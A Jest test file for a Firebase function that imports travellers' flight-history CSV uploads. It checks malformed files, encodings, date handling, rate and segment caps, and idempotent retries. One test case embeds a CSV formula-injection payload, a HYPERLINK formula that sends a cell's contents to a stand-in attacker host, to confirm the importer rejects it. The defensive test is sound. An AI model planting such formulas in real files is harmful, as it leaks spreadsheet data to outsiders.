/**
 * `onImportUploaded` through firebase-functions-test with a realistic Storage CloudEvent, against the in-memory
 * repository and a local-directory storage: the real exports in ../shared/samples, malformed files, the guards,
 * idempotency (redelivery, re-upload), progress updates and the one recompute per import.
 */
// helpers first: it initialises firebase-functions-test (FIREBASE_CONFIG) before the function modules load.
import { NOW, change, fft, profile, seg, setUpEnv, tearDownEnv, type TestEnv, uploadEvent } from './helpers';
import * as fs from 'node:fs';
import * as crypto from 'node:crypto';
import { onImportUploaded } from '../../../functions/src/triggers/onImportUploaded';
import { onSegmentWritten } from '../../../functions/src/triggers/onSegmentWritten';
import { BACKEND_MARKER_KEY, BACKEND_MARKER_VALUE } from '../../../functions/src/services/import/upload';
import { verifyTimeline } from '../../../functions/src/services/recompute/recompute';
import { syntheticFlightsCsv } from '../../../tools/bench/flights';
import type { ImportDoc } from '../../../functions/src/model/documents';
import { describeWithSamples, listSampleFiles, samplePath } from '../../helpers/samples';

const wrapped = fft.wrap(onImportUploaded);
const UID = 'bob';

let env: TestEnv;
beforeEach(() => {
  env = setUpEnv();
});
afterEach(() => {
  tearDownEnv(env);
  delete process.env.IMPORT_MAX_BYTES;
  delete process.env.IMPORT_MAX_ROWS;
  delete process.env.IMPORTS_PER_DAY;
  delete process.env.MAX_SEGMENTS_PER_USER;
});

function importDoc(importId: string, uid = UID): ImportDoc | undefined {
  return env.repo.snapshot().users[uid]?.imports[importId];
}

function segmentsOf(uid = UID) {
  return env.repo.snapshot().users[uid]?.segments ?? {};
}

/** A manual segment the user already has: an import must never change or remove it. */
async function givenExistingSegment() {
  await env.repo.createProfileIfAbsent(UID, profile());
  const manual = seg('US', 'FR', '2026-06-01', '2026-06-02', { notes: 'typed by hand' });
  await env.repo.putSegment(UID, 'manual-1', manual);
  return manual;
}

describe('malformed files end in failed or partial with a clear reason, and keep existing segments', () => {
  const MiB = 1024 * 1024;
  /** `bytes` of printable garbage (no NUL bytes) with line breaks: rejected as an unknown format or by size. */
  const garbage = (bytes: number) => (): Buffer => {
    const r = crypto.randomBytes(bytes);
    for (let i = 0; i < r.length; i++) r[i] = i % 120 === 119 ? 10 : 33 + (r[i]! % 94);
    return r;
  };
  const cases: { name: string; content: () => Buffer | string; status: ImportDoc['status']; reason: RegExp; env?: Record<string, string> }[] = [
    { name: 'an empty file', content: () => '', status: 'failed', reason: /empty/i },
    {
      name: 'a binary file (PNG header and random bytes)',
      content: () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), crypto.randomBytes(4096)]),
      status: 'failed',
      reason: /binary|not a text|unrecognised/i,
    },
    { name: 'a file with only a header', content: () => 'date,from,to,flight_number\n', status: 'failed', reason: /no (data|flight) rows/i },
    // The default limit is 10 MiB, as in storage.rules: a file of exactly 10 MiB reaches the parser.
    {
      name: '10 MiB of garbage (exactly the default limit: the parser rejects it)',
      content: garbage(10 * MiB),
      status: 'failed',
      reason: /unrecognised|format|line/i,
    },
    {
      name: '10 MiB + 1 byte of garbage (over the default 10 MiB limit)',
      content: garbage(10 * MiB + 1),
      status: 'failed',
      reason: /^the file is 10\.0 MiB \(10485761 bytes\), larger than the 10\.0 MiB \(10485760 bytes\) limit$/,
    },
    {
      name: '10 MiB of garbage (limit lowered to 5 MiB by IMPORT_MAX_BYTES)',
      content: garbage(10 * MiB),
      status: 'failed',
      reason: /^the file is 10\.0 MiB \(10485760 bytes\), larger than the 5\.0 MiB \(5242880 bytes\) limit$/,
      env: { IMPORT_MAX_BYTES: String(5 * MiB) },
    },
    {
      name: 'a CSV where no row is a flight',
      content: () => 'date,from,to\n2026-13-01,JFK,CDG\nxx,YYY,ZZZ\n',
      status: 'failed',
      reason: /^2 of 2 rows skipped: dates cannot be read \(rows 2, 3\): write dates as YYYY-MM-DD$/,
    },
    {
      name: 'a CSV with a formula-injection cell',
      content: () => 'date,from,to,flight_number,notes\n2026-03-01,JFK,CDG,AF7,ok\n2026-03-10,=HYPERLINK("http://evil.example/?x="&A1;"click"),JFK,AF8,x\n',
      status: 'partial',
      reason: /^row 3: From '=HYPERLINK.*' is not an airport code/,
    },
  ];
  test.each(cases)('$name', async ({ content, status, reason, env: vars }) => {
    Object.assign(process.env, vars ?? {});
    const manual = await givenExistingSegment();
    const before = segmentsOf();
    await wrapped(await uploadEvent(env, `users/${UID}/imports/bad1.csv`, content()));
    const doc = importDoc('bad1')!;
    expect(doc.status).toBe(status);
    const text = status === 'failed' ? doc.error! : doc.skipped.map((s) => `row ${s.row}: ${s.reason}`).join('\n');
    expect(text).toMatch(reason);
    // Nothing stored starts like a spreadsheet formula.
    for (const s of doc.skipped) expect(s.reason).not.toMatch(/^[=+\-@]/);
    for (const s of Object.values(segmentsOf())) for (const v of Object.values(s)) if (typeof v === 'string') expect(v).not.toMatch(/^[=+@]/);
    // The user's existing segment is unchanged, none lost.
    expect(segmentsOf()['manual-1']).toEqual(manual);
    for (const [id, s] of Object.entries(before)) expect(segmentsOf()[id]).toEqual(s);
  });
});

describe('the files people have: separators, UTF-16 "Unicode Text", month names, two-digit years, place names', () => {
  const utf16le = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  const cases: { name: string; content: Buffer | string; segments: string[] }[] = [
    {
      name: 'semicolon-separated (Excel in a French locale)',
      content: 'date;from;to\n2026-03-01;JFK;CDG\n2026-03-10;CDG;JFK\n',
      segments: ['2026-03-01 US-FR', '2026-03-10 FR-US'],
    },
    {
      name: 'tab-separated UTF-16 ("Unicode Text")',
      content: utf16le('date\tfrom\tto\r\n2026-03-01\tJFK\tCDG\r\n2026-03-10\tCDG\tJFK\r\n'),
      segments: ['2026-03-01 US-FR', '2026-03-10 FR-US'],
    },
    {
      name: 'dates with month names',
      content: 'date,from,to\n1 Mar 2026,JFK,CDG\n"Mar 10, 2026",CDG,JFK\n',
      segments: ['2026-03-01 US-FR', '2026-03-10 FR-US'],
    },
    {
      name: 'place names by bus (Lima, Ica: Peru)',
      content: 'date,from,to,mode\n2026-03-01,Lima,Ica,bus\n2026-03-10,Ica,Lima,bus\n',
      segments: ['2026-03-01 PE-PE', '2026-03-10 PE-PE'],
    },
  ];
  test.each(cases)('$name', async ({ content, segments }) => {
    await wrapped(await uploadEvent(env, `users/${UID}/imports/people.csv`, content));
    expect(importDoc('people')).toMatchObject({ status: 'succeeded', error: null });
    const stored = Object.values(segmentsOf()).filter((x) => x.source === 'people');
    expect(stored.map((x) => `${x.departureDate} ${x.departureCountry}-${x.arrivalCountry}`).sort()).toEqual(segments);
  });

  test('two-digit years: the import fails naming the fix and stores nothing', async () => {
    await wrapped(await uploadEvent(env, `users/${UID}/imports/yy.csv`, 'date,from,to\n1/3/26,JFK,CDG\n10-Mar-26,CDG,JFK\n'));
    const doc = importDoc('yy')!;
    expect(doc.status).toBe('failed');
    expect(doc.error).toBe(
      '2 of 2 rows skipped: dates have two-digit years (rows 2, 3): write years with four digits (in a spreadsheet, format the date columns as YYYY-MM-DD) and import again',
    );
    // Every row is still listed, with its own reason.
    expect(doc.skipped.map((s) => s.row)).toEqual([2, 3]);
    expect(Object.values(segmentsOf()).filter((x) => x.source === 'yy')).toHaveLength(0);
  });

  test('a JSON file named .txt fails saying it is JSON and what to export instead', async () => {
    await wrapped(await uploadEvent(env, `users/${UID}/imports/flights.txt`, utf16le('{"flights": []}\r\n')));
    expect(importDoc('flights')).toMatchObject({
      status: 'failed',
      error: expect.stringMatching(/^the file is JSON, which the import does not read: export your history as CSV/),
    });
  });
});

describe('no confident answer from nothing: more than half the rows refused ends failed, grouped by reason, nothing stored', () => {
  test.each([
    {
      name: '3 of 4 rows refused (two-digit years and an unknown airport): failed, no segment',
      csv: 'date,from,to\n2026-03-01,JFK,CDG\n1/3/26,CDG,JFK\n2/3/26,JFK,CDG\n2026-03-04,CDG,ZZZ\n',
      status: 'failed',
      error:
        '3 of 4 rows skipped: 2: dates have two-digit years (rows 3, 4): write years with four digits (in a spreadsheet, format the date columns as YYYY-MM-DD) and import again; ' +
        '1: airports are unknown or missing (row 5): check the codes (IATA such as CDG, ICAO such as LFPG), or give the countries in from_country and to_country',
      stored: 0,
    },
    {
      name: '2 of 4 rows refused (exactly half): partial, the two flights stored',
      csv: 'date,from,to\n2026-03-01,JFK,CDG\n1/3/26,CDG,JFK\n2/3/26,JFK,CDG\n2026-03-04,CDG,JFK\n',
      status: 'partial',
      error: null,
      stored: 2,
    },
  ])('$name', async ({ csv, status, error, stored }) => {
    await env.repo.createProfileIfAbsent(UID, profile());
    await wrapped(await uploadEvent(env, `users/${UID}/imports/half.csv`, csv));
    const doc = importDoc('half')!;
    expect(doc.status).toBe(status);
    expect(doc.error).toBe(error);
    expect(doc.counts.imported + doc.counts.duplicates + doc.counts.skipped).toBe(doc.counts.rows);
    expect(Object.values(segmentsOf()).filter((x) => x.source === 'half')).toHaveLength(stored);
  });
});

describe('guards', () => {
  test('an object outside users/{uid}/imports/ is ignored: no document, no segment', async () => {
    const out = await wrapped(await uploadEvent(env, 'public/banner.csv', 'date,from,to\n2026-01-01,JFK,CDG\n'));
    expect(out).toEqual({ action: 'ignored', reason: 'not an import path' });
    expect(env.repo.snapshot().users).toEqual({});
  });

  test('an object the backend wrote itself (metadata marker) is ignored', async () => {
    const out = await wrapped(
      await uploadEvent(env, `users/${UID}/imports/exp.csv`, 'date,from,to\n2026-01-01,JFK,CDG\n', {
        metadata: { [BACKEND_MARKER_KEY]: BACKEND_MARKER_VALUE },
      }),
    );
    expect(out).toEqual({ action: 'ignored', reason: 'written by the backend' });
    expect(importDoc('exp')).toBeUndefined();
  });

  test.each([
    ['a PDF content type', 'x.csv', 'application/pdf', /content type application\/pdf is not a text or CSV file/],
    ['a .xlsx extension', 'x.xlsx', 'text/csv', /\.xlsx are not accepted/],
  ])('%s fails with a reason', async (_n, file, contentType, reason) => {
    await wrapped(await uploadEvent(env, `users/${UID}/imports/${file}`, 'date,from,to\n2026-01-01,JFK,CDG\n', { contentType }));
    const doc = importDoc('x')!;
    expect(doc.status).toBe('failed');
    expect(doc.error).toMatch(reason);
  });

  test('more rows than IMPORT_MAX_ROWS fails and stores no segment', async () => {
    process.env.IMPORT_MAX_ROWS = '50';
    await wrapped(await uploadEvent(env, `users/${UID}/imports/many.csv`, syntheticFlightsCsv(120)));
    const doc = importDoc('many')!;
    expect(doc.status).toBe('failed');
    expect(doc.error).toMatch(/50/);
    expect(segmentsOf()).toEqual({});
  });
});

describe('a good file', () => {
  test('becomes segments with deterministic ids, one recompute, bounded progress writes', async () => {
    const manual = await givenExistingSegment();
    const csv = syntheticFlightsCsv(3_000, 11, '2020-01-01');
    // A clock that advances 1 s per call makes the 2 s progress throttle observable.
    let t = NOW.getTime();
    env.clock.now = NOW;
    const { setWiring } = await import('../../../functions/src/wiring');
    setWiring({
      repo: env.repo,
      storage: env.storage,
      auth: env.auth,
      clock: () => new Date((t += 1000)),
      sleep: async (ms) => {
        t += ms;
      },
    });
    const putImport = jest.spyOn(env.repo, 'putImport');
    await wrapped(await uploadEvent(env, `users/${UID}/imports/good.csv`, csv, { timeCreated: NOW }));
    const doc = importDoc('good')!;
    expect(['succeeded', 'partial']).toContain(doc.status);
    expect(doc.counts.rows).toBe(3_000);
    expect(doc.counts.imported + doc.counts.duplicates + doc.counts.skipped).toBe(3_000);
    expect(doc.counts.imported + doc.counts.duplicates).toBe(doc.counts.flights);
    expect(doc.rowsDone).toBe(3_000);
    const segs = segmentsOf();
    expect(Object.keys(segs).filter((id) => id.startsWith('imp-'))).toHaveLength(doc.counts.imported);
    expect(Object.values(segs).filter((s) => s.source === 'good')).toHaveLength(doc.counts.imported);
    expect(segs['manual-1']).toEqual(manual);
    // Exactly one evaluation for the whole file, with its last chunk of segments.
    expect(env.logs.filter((l) => l.message === 'recompute.done').map((l) => l.changed)).toEqual([true]);
    const status = env.repo.snapshot().users[UID]!.visaStatus['schengen-90-180']!;
    expect(status).toBeDefined();
    // The timeline holds exactly the stored segments.
    expect(await verifyTimeline(env.repo, UID)).toMatchObject({ missing: [], extra: [], different: [] });
    // Import-document writes besides `queued` (written with the timeline): processing, final, and progress at most
    // once per 1 000 rows and 2 s (never one per row): here at least one progress update, at most three.
    const progressWrites = putImport.mock.calls.filter(([, , patch]) => patch.status === undefined).length;
    expect(putImport.mock.calls.length - progressWrites).toBe(2);
    expect(progressWrites).toBeGreaterThanOrEqual(1);
    expect(progressWrites).toBeLessThanOrEqual(3);
    // 3 000 rows parsed and evaluated twice: more than Jest's 5 s default on a loaded shared machine. A limit,
    // not a measurement (timings belong in `npm run bench`).
  }, 60_000);

  describe('a file whose dates are all ambiguous (day and month both 12 or less)', () => {
    // 3 April or 4 March? Every date fits both orders, so only the traveller can say.
    const AMBIGUOUS = 'date,from,to\n3/4/2024,JFK,CDG\n10/4/2024,CDG,JFK\n';

    test('without dateOrder metadata it fails with one message saying what to pass, and stores no segment', async () => {
      await wrapped(await uploadEvent(env, `users/${UID}/imports/amb.csv`, AMBIGUOUS));
      const doc = importDoc('amb')!;
      expect(doc.status).toBe('failed');
      expect(doc.error).toMatch(/dateOrder 'DMY' \(day first\) or 'MDY' \(month first\)/);
      expect(Object.values(segmentsOf()).filter((x) => x.source === 'amb')).toHaveLength(0);
    });

    test.each([
      ['DMY', ['2024-04-03', '2024-04-10']],
      ['mdy', ['2024-03-04', '2024-10-04']],
    ])('with dateOrder %s it imports every row in that order', async (order, dates) => {
      await wrapped(await uploadEvent(env, `users/${UID}/imports/amb-${order}.csv`, AMBIGUOUS, { metadata: { dateOrder: order } }));
      expect(importDoc(`amb-${order}`)!.status).toBe('succeeded');
      const imported = Object.values(segmentsOf()).filter((x) => x.source === `amb-${order}`);
      expect(imported.map((x) => x.departureDate).sort()).toEqual(dates);
    });

    test('an unknown dateOrder value fails naming it', async () => {
      await wrapped(await uploadEvent(env, `users/${UID}/imports/amb-x.csv`, AMBIGUOUS, { metadata: { dateOrder: 'day-first' } }));
      expect(importDoc('amb-x')).toMatchObject({
        status: 'failed',
        error: "the upload's custom metadata dateOrder 'day-first' must be DMY (day first), MDY (month first) or YMD",
      });
    });
  });

  test('the same event twice, and the same file uploaded again under a new id, create no duplicates', async () => {
    await givenExistingSegment();
    const csv = syntheticFlightsCsv(200, 3, '2024-01-01');
    const event = await uploadEvent(env, `users/${UID}/imports/a.csv`, csv, { eventId: 'evt-a', timeCreated: NOW });
    env.clock.now = new Date(NOW.getTime() + 5_000);
    await wrapped(event);
    const afterFirst = env.repo.snapshot();
    const docA = importDoc('a')!;
    expect(docA.counts.imported).toBeGreaterThan(0);

    env.clock.now = new Date(NOW.getTime() + 10_000);
    expect(await wrapped(event)).toEqual({ action: 'ignored', reason: 'already processed' });
    expect(env.repo.snapshot()).toEqual(afterFirst);

    await wrapped(await uploadEvent(env, `users/${UID}/imports/b.csv`, csv, { timeCreated: env.clock.now }));
    const docB = importDoc('b')!;
    expect(docB.counts.imported).toBe(0);
    expect(docB.counts.duplicates).toBe(docA.counts.imported + docA.counts.duplicates);
    // Every row of the re-upload is reported as already imported, which is not an error.
    expect(docB.status).toBe(docA.counts.skipped > 0 ? 'partial' : 'succeeded');
    expect(docB.counts.skipped).toBe(docA.counts.skipped);
    expect(docB.counts.imported + docB.counts.duplicates + docB.counts.skipped).toBe(docB.counts.rows);
    expect(docB.skipped.filter((r) => r.duplicate)).toHaveLength(docB.counts.duplicates);
    expect(docB.skipped.filter((r) => r.duplicate).every((r) => /^already imported \(/.test(r.reason))).toBe(true);
    expect(segmentsOf()).toEqual(afterFirst.users[UID]!.segments);
    // The original file is kept.
    expect(env.storage.exists(`users/${UID}/imports/a.csv`)).toBe(true);
  });

  test('the N segment events the import causes are all skipped without a read', async () => {
    await env.repo.createProfileIfAbsent(UID, profile());
    const csv = syntheticFlightsCsv(400, 9, '2025-06-01');
    const commitTime = NOW;
    await wrapped(await uploadEvent(env, `users/${UID}/imports/n.csv`, csv));
    const created = Object.entries(segmentsOf()).filter(([, s]) => s.source === 'n');
    expect(created.length).toBeGreaterThan(300);
    const statusBefore = env.repo.snapshot().users[UID]!.visaStatus;
    env.repo.resetCounts();
    const onWrite = fft.wrap(onSegmentWritten);
    const outcomes = new Set<string>();
    for (const [id, s] of created) {
      const out = await onWrite({
        id: `evt-${id}`,
        time: commitTime.toISOString(),
        params: { uid: UID, segmentId: id },
        data: change(null, s, `users/${UID}/segments/${id}`),
      });
      outcomes.add(JSON.stringify(out));
    }
    expect([...outcomes]).toEqual([JSON.stringify({ action: 'skipped', reason: 'imported-create' })]);
    expect(env.repo.counts).toEqual({ reads: 0, writes: 0, deletes: 0 });
    expect(env.repo.snapshot().users[UID]!.visaStatus).toEqual(statusBefore);
  });

  test('a retry after a crash mid-import counts the segments the first attempt wrote as imported', async () => {
    await env.repo.createProfileIfAbsent(UID, profile());
    const csv = 'date,from,to,flight_number\n2026-03-01,JFK,CDG,AF7\n2026-03-10,CDG,JFK,AF8\n2026-04-01,JFK,LHR,BA1\n';
    const event = await uploadEvent(env, `users/${UID}/imports/r.csv`, csv);
    // A first attempt that fails after writing its segments (its final status write hits an outage).
    const { setWiring } = await import('../../../functions/src/wiring');
    const failing = Object.create(env.repo) as typeof env.repo;
    failing.putImport = async (uid, id, patch) => {
      if (patch.status === 'succeeded') throw new Error('UNAVAILABLE: Firestore');
      return env.repo.putImport(uid, id, patch);
    };
    setWiring({ repo: failing, storage: env.storage, auth: env.auth, clock: () => env.clock.now, sleep: env.sleep });
    await expect(wrapped(event)).rejects.toThrow(/UNAVAILABLE/);
    expect(importDoc('r')!.status).toBe('processing');
    expect(Object.keys(segmentsOf())).toHaveLength(3);
    const statusAfterCrash = env.repo.snapshot().users[UID]!.visaStatus;
    // Cloud Functions retries the same event.
    setWiring({ repo: env.repo, storage: env.storage, auth: env.auth, clock: () => env.clock.now, sleep: env.sleep });
    await wrapped(event);
    expect(importDoc('r')).toMatchObject({ status: 'succeeded', counts: { rows: 3, flights: 3, imported: 3, duplicates: 0, skipped: 0 } });
    // The status was written with the segments; the retry's recompute finds it current.
    expect(env.repo.snapshot().users[UID]!.visaStatus).toEqual(statusAfterCrash);
    expect(statusAfterCrash['schengen-90-180']).toBeDefined();
  });

  test.each([1_000, 3_000])(
    'an import of %i rows costs its segment writes plus a few reads and writes per 450 segments',
    async (rows) => {
      await env.repo.createProfileIfAbsent(UID, profile());
      await env.repo.putSegment(UID, 'manual-1', seg('US', 'FR', '2019-06-01'));
      const { recomputeUser } = await import('../../../functions/src/services/recompute/recompute');
      await recomputeUser(env.repo, UID, { now: NOW });
      const event = await uploadEvent(env, `users/${UID}/imports/c.csv`, syntheticFlightsCsv(rows, 5, '2010-01-01'), { timeCreated: NOW });
      env.repo.resetCounts();
      await wrapped(event);
      const doc = importDoc('c')!;
      expect(doc.counts.imported).toBeGreaterThan(rows * 0.9);
      const chunks = Math.ceil(doc.counts.imported / 450);
      // Reads: import document, profile, start (marker + timeline), processing and final (marker each), and per chunk
      // the marker and the timeline: the duplicate check reads no segment.
      expect(env.repo.counts.reads).toBe(6 + 2 * chunks);
      // Writes: the segments; queued + timeline, processing, final; per chunk the timeline; the last chunk's status,
      // summary and profile schedule at most.
      expect(env.repo.counts.writes - doc.counts.imported).toBeLessThanOrEqual(4 + chunks + 3);
    },
    60_000,
  );

  test('the per-day import cap: the upload past it fails with a message and writes nothing else', async () => {
    process.env.IMPORTS_PER_DAY = '2';
    await env.repo.createProfileIfAbsent(UID, profile());
    const csv = (d: string) => `date,from,to,flight_number\n${d},JFK,CDG,AF7\n`;
    await wrapped(await uploadEvent(env, `users/${UID}/imports/d1.csv`, csv('2026-03-01')));
    await wrapped(await uploadEvent(env, `users/${UID}/imports/d2.csv`, csv('2026-03-02')));
    const before = Object.keys(segmentsOf()).length;
    await wrapped(await uploadEvent(env, `users/${UID}/imports/d3.csv`, csv('2026-03-03')));
    expect(importDoc('d3')).toMatchObject({
      status: 'failed',
      error: 'you have already imported 2 files today, the most allowed in one day; upload this file again tomorrow',
    });
    expect(Object.keys(segmentsOf())).toHaveLength(before);
    // The same import redelivered is not counted twice; the next local day starts a new count.
    env.clock.now = new Date(NOW.getTime() + 86_400_000);
    await wrapped(await uploadEvent(env, `users/${UID}/imports/d4.csv`, csv('2026-03-04')));
    expect(importDoc('d4')!.status).toBe('succeeded');
  });

  test('the segment cap: rows past it are skipped with the reason, the rest imported', async () => {
    process.env.MAX_SEGMENTS_PER_USER = '3';
    await env.repo.createProfileIfAbsent(UID, profile());
    await env.repo.putSegment(UID, 'manual-1', seg('US', 'FR', '2019-06-01'));
    const csv = 'date,from,to,flight_number\n2026-03-01,JFK,CDG,AF7\n2026-03-10,CDG,JFK,AF8\n2026-04-01,JFK,LHR,BA1\n2026-04-05,LHR,JFK,BA2\n';
    await wrapped(await uploadEvent(env, `users/${UID}/imports/cap.csv`, csv));
    const doc = importDoc('cap')!;
    expect(doc).toMatchObject({ status: 'partial', counts: { rows: 4, flights: 4, imported: 2, duplicates: 0, skipped: 2 } });
    expect(doc.skipped).toEqual([
      { row: 4, reason: 'not imported: your travel history has reached the limit of 3 segments; delete segments you no longer need and upload the file again' },
      { row: 5, reason: 'not imported: your travel history has reached the limit of 3 segments; delete segments you no longer need and upload the file again' },
    ]);
    expect(Object.keys(segmentsOf())).toHaveLength(3);
  });

  test('a segment typed by hand on the same dates between the same countries counts as a duplicate', async () => {
    await env.repo.createProfileIfAbsent(UID, profile());
    await env.repo.putSegment(UID, 'manual-1', seg('US', 'FR', '2026-03-01', '2026-03-01'));
    await wrapped(await uploadEvent(env, `users/${UID}/imports/d.csv`, 'date,from,to,flight_number\n2026-03-01,JFK,CDG,AF7\n2026-03-10,CDG,JFK,AF8\n'));
    const doc = importDoc('d')!;
    expect(doc.status).toBe('succeeded');
    expect(doc.counts).toMatchObject({ rows: 2, flights: 2, imported: 1, duplicates: 1, skipped: 0 });
  });

  test('one hand-typed trip absorbs one imported flight, not every flight between the same countries that day', async () => {
    await env.repo.createProfileIfAbsent(UID, profile());
    await env.repo.putSegment(UID, 'manual-1', seg('FR', 'DE', '2026-05-04', '2026-05-04'));
    // Three real flights on one day: out, back, out again. Only the first FR->DE is the typed trip.
    const csv = 'date,from,to,departure_time,arrival_time\n2026-05-04,CDG,FRA,07:00,08:15\n2026-05-04,FRA,CDG,10:00,11:15\n2026-05-04,CDG,FRA,17:00,18:15\n';
    await wrapped(await uploadEvent(env, `users/${UID}/imports/m.csv`, csv));
    expect(importDoc('m')!.counts).toMatchObject({ rows: 3, flights: 3, imported: 2, duplicates: 1, skipped: 0 });
    const trips = Object.values(segmentsOf())
      .map((s) => `${s.departureCountry}>${s.arrivalCountry}`)
      .sort();
    expect(trips).toEqual(['DE>FR', 'FR>DE', 'FR>DE']);
    // 2026-05-04 counts in both countries; the traveller ends the day in Germany and stays through today
    // (2026-11-23): May 4-31 (28) + 30 + 31 + 31 + 30 + 31 + Nov 1-23 (23) = 204 days.
    const summary = await env.repo.getCountryDays(UID);
    expect(summary?.countryDays).toEqual({ FR: 1, DE: 204 });
  });
});

describeWithSamples('real exports from ../shared/samples', () => {
  const files = listSampleFiles(['.csv', '.txt']);
  test('there are sample files to import', () => expect(files.length).toBeGreaterThan(5));
  test.each(files)('%s', async (rel) => {
    const manual = await givenExistingSegment();
    const importId = `s-${crypto.createHash('sha1').update(rel).digest('hex').slice(0, 12)}`;
    const ext = rel.endsWith('.txt') ? 'txt' : 'csv';
    const content = fs.readFileSync(samplePath(rel));
    const event = await uploadEvent(env, `users/${UID}/imports/${importId}.${ext}`, content, { contentType: ext === 'txt' ? 'text/plain' : 'text/csv' });
    await wrapped(event);
    const doc = importDoc(importId)!;
    expect(['succeeded', 'partial', 'failed']).toContain(doc.status);
    if (doc.status === 'failed') expect(doc.error).toMatch(/\w{10,}/);
    else {
      expect(doc.counts.flights).toBeGreaterThan(0);
      expect(doc.counts.imported + doc.counts.duplicates + doc.counts.skipped).toBe(doc.counts.rows);
      if (doc.status === 'partial') for (const s of doc.skipped) expect(s.reason.length).toBeGreaterThan(5);
      expect(Object.values(segmentsOf()).filter((s) => s.source === importId)).toHaveLength(doc.counts.imported);
    }
    expect(segmentsOf()['manual-1']).toEqual(manual);
    // Redelivery changes nothing.
    const snap = env.repo.snapshot();
    env.clock.now = new Date(NOW.getTime() + 60_000);
    await wrapped(event);
    expect(env.repo.snapshot()).toEqual(snap);
  });
});
